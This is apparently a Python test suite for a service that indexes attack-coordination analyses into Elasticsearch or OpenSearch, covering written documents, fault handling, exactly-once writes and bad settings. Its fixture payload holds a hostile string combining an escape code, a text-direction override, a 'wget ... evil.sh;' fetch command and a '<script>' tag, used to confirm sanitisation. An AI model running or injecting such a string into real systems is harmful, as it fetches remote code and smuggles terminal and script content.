#!/usr/bin/env python3
"""Results written into a cluster by the real service with a stand-in of Elasticsearch and OpenSearch: what is written, that it is written once whatever happens, and that a cluster that is away,
slow, full or wrong fails no analysis."""
import os
import signal
import subprocess
import sys
import tempfile
import unittest

sys.path.insert(0, os.path.join(os.path.dirname(os.path.abspath(__file__)), "../support"))
import serving  # noqa: E402
from elastic import KEY, Elastic  # noqa: E402
from serving import eventually  # noqa: E402
from support import COORD, DEADLINE_S, Case, coord, environment  # noqa: E402

EVIL = "\x1b[31mwget\u202e http://203.0.113.9/evil.sh; <script>"


def attack():
    """Twelve sources with one tool, in step."""
    return [{"source_ip": f"45.9.20.{host + 3}", "timestamp": f"2025-07-{day:02d}T0{day}:{host % 3:02d}:1{host % 10}Z",
             "payload": f"{EVIL} b{day}", "target_port": 22, "protocol": "ssh"} for day in range(1, 4) for host in range(12)]


class Enrich(Case):
    def start(self, url, **more):
        self.state = tempfile.mkdtemp(dir=self.folder)
        server = serving.Server(self.state, **{"ELASTICSEARCH_URL": url, "COORD_RETRY_BASE": "50ms", "COORD_RETRY_MOST": "200ms", "COORD_LEASE": "3s",
                                                "COORD_ATTEMPTS": "100", "COORD_ES_TIMEOUT": "60s", **more})
        self.addCleanup(server.stop)
        return server

    def analysed(self, server, depth="standard"):
        ident = server.submit({"attack_sessions": attack(), "analysis_depth": depth})
        answer = server.finished(ident)
        self.assertEqual("completed", answer["status"], answer)
        return ident, answer

    def status(self, answer):
        return answer["provider_status"]["elasticsearch"]

    def whole(self, cluster, ident, answer):
        """Everything is there once."""
        self.assertEqual("ok", self.status(answer)["status"], answer["provider_status"])
        self.assertTrue(answer["enrichment_applied"])
        asked = self.status(answer)["asked"]
        self.assertEqual(asked, len(cluster.documents))
        self.assertEqual(sorted({i for _, i in cluster.documents}), sorted(cluster.writes))
        self.assertEqual({i for _, i in cluster.documents}, {ident} | {f"{ident}:c{n}" for n in range(1, asked)})

    def test_1_what_is_written(self):
        for product, key, user, settings in (
                ("elasticsearch", KEY, None, {"COORD_ES_API_KEY": KEY}),
                ("opensearch", None, "writer:s3cret", {"COORD_ES_USER": "writer", "COORD_ES_PASSWORD": "s3cret", "COORD_ES_INDEX": "own-%Y.%m.%d"})):
            with self.subTest(product=product), Elastic(product, key=key, user=user) as cluster:
                server = self.start(cluster.url + "/", **settings)
                ident, answer = self.analysed(server)
                self.whole(cluster, ident, answer)
                self.assertEqual(product, self.status(answer)["product"])
                (index,) = {i for i, _ in cluster.documents}
                self.assertRegex(index, r"^own-20\d\d\.\d\d\.\d\d$" if user else r"^dshield-coordination-20\d\d\.\d\d$")
                self.assertGreaterEqual(len(cluster.documents), 2)
                whole, group = cluster.documents[index, ident], cluster.documents[index, ident + ":c1"]
                self.assertEqual(("coordination.analysis", ident, answer["verdict"]),
                                 (whole["event"]["dataset"], whole["event"]["id"], whole["coordination"]["verdict"]))
                self.assertGreaterEqual(len(whole["coordination"]["narrative"]), 2)
                self.assertEqual(("coordination.campaign", f"{ident}:c1", ident),
                                 (group["event"]["dataset"], group["event"]["id"], group["coordination"]["analysis_id"]))
                self.assertEqual({f"45.9.20.{h + 3}" for h in range(12)}, set(group["related"]["ip"]))
                self.assertAlmostEqual(answer["coordination_confidence"], group["coordination"]["confidence"], 5)
                (bulk,) = cluster.bulks()
                self.assertEqual("gzip", bulk["headers"]["content-encoding"])
                for word in (b"wget", b"script", b"\x1b", "\u202e".encode(), b"evil"):
                    self.assertNotIn(word, bulk["body"])
                self.proven(server, ident)
                server.stop()

    def proven(self, server, ident):
        """The document holds with its chain, though the index was written after it was judged."""
        document = server.get(f"/analyze/{ident}/export?format=json")
        self.assertEqual(200, document.status, document)
        self.assertEqual("ok", document.json()["workflow"]["fields"]["indexed"]["status"])
        verified = coord("verify", self.file("result.json", document.body))
        self.assertIn(b"2 answers from outside hold", verified.stdout + verified.stderr)

    def test_2_faults_that_pass(self):
        for product, faults in (("elasticsearch", ["busy"]), ("elasticsearch", ["item_busy"]), ("opensearch", ["malformed"]), ("elasticsearch", ["short"]),
                                ("elasticsearch", ["lost"]), ("elasticsearch", ["large"]), ("elasticsearch", ["probe_busy", "busy", "item_busy", "lost"])):
            with self.subTest(faults=faults), Elastic(product, faults=faults) as cluster:
                server = self.start(cluster.url)
                ident, answer = self.analysed(server, "minimal")
                self.whole(cluster, ident, answer)
                self.assertEqual([], cluster.faults)
                if faults == ["item_busy"]:  # only what was not taken goes again
                    first, second = cluster.bulks()
                    self.assertEqual(2, second["body"].count(b"\n"))
                    self.assertGreater(first["body"].count(b"\n"), 2)
                server.stop()

    def test_3_faults_that_stay(self):
        for faults, key, words in ((["item_mapping"], None, "document_parsing_exception"), (["forbidden"], None, "403"), ([], "c2VjcmV0", "401"),
                                   (["probe_html"], None, "neither"), (["probe_bare"], None, "X-Elastic-Product"), (["hang"], None, "")):
            with self.subTest(faults=faults, key=key), Elastic(faults=faults, forever=True, key=key) as cluster:
                server = self.start(cluster.url, COORD_ES_TIMEOUT="2s" if faults == ["hang"] else "60s")
                _, answer = self.analysed(server, "minimal")
                told = self.status(answer)
                self.assertFalse(answer["enrichment_applied"])
                self.assertEqual("degraded" if faults == ["item_mapping"] else "down", told["status"], told)
                self.assertIn(words, told["why"])
                self.assertTrue(told["why"].isprintable())
                self.assertEqual(told["asked"], told["taken"] + told["refused"] + told["failed"])
                self.assertEqual(told["taken"], len(cluster.documents))
                if faults and faults[0].startswith("probe_"):
                    self.assertEqual([], cluster.bulks())
                server.stop()

    def test_4_nobody_is_there(self):
        with Elastic() as cluster:
            url = cluster.url
        _, answer = self.analysed(self.start(url), "minimal")
        self.assertEqual("down", self.status(answer)["status"])
        self.assertFalse(answer["enrichment_applied"])

    def test_5_a_run_that_goes_on_sends_nothing_again(self):
        """The worker is killed while the cluster keeps it waiting: whoever goes on asks again only what was not acknowledged, and finds what was."""
        with Elastic(faults=["hang"]) as cluster:
            server = self.start(cluster.url)
            ident = server.submit({"attack_sessions": attack(), "analysis_depth": "standard"})
            eventually(cluster.bulks, "the first bulk request")
            for child in self.children(server.process.pid):
                os.kill(child, signal.SIGKILL)
            answer = server.finished(ident)
            self.assertEqual("completed", answer["status"], answer)
            self.whole(cluster, ident, answer)
            # who is there was recorded: the workers ask once, beside what the server asks for /health/ready
            self.assertEqual(1, sum(r["method"] == "GET" and r["headers"].get("accept") == "application/json" for r in cluster.requests))
            sent = len(cluster.requests)
            replay = subprocess.run([COORD, "workflow", "replay", ident], capture_output=True, timeout=DEADLINE_S, check=False, env=environment(
                COORD_STATE_DIR=os.path.join(self.state, "state"), ELASTICSEARCH_URL=cluster.url))
            self.assertIn(b"identical", replay.stdout, replay.stderr)
            self.assertEqual(sent, len(cluster.requests))

    def children(self, pid):
        """Of all its threads: the supervisor's thread starts workers."""
        found = []
        for thread in os.listdir(f"/proc/{pid}/task"):
            with open(f"/proc/{pid}/task/{thread}/children", encoding="ascii") as f:
                found += [int(p) for p in f.read().split()]
        return found

    def test_6_wrong_settings_are_told_at_the_start(self):
        for settings, words in (({"ELASTICSEARCH_URL": "http://elastic:hunter2@127.0.0.1:9200"}, b"without a user"),
                                ({"COORD_ES_API_KEY": "a", "COORD_ES_USER": "b", "COORD_ES_PASSWORD": "c"}, b"COORD_ES_API_KEY"),
                                ({"COORD_ES_USER": "b"}, b"COORD_ES_PASSWORD"), ({"COORD_ES_INDEX": "Upper"}, b"COORD_ES_INDEX")):
            done = coord("serve", env=environment(**{"COORD_STATE_DIR": os.path.join(self.folder, "wrong"), "COORD_LISTEN": "127.0.0.1:0", "COORD_WORKERS": "1",
                                                     "ELASTICSEARCH_URL": "http://127.0.0.1:9200", **settings}))
            self.assertNotEqual(0, done.returncode)
            self.assertIn(words, done.stderr)
            self.assertNotIn(b"hunter2", done.stderr)


if __name__ == "__main__":
    unittest.main()
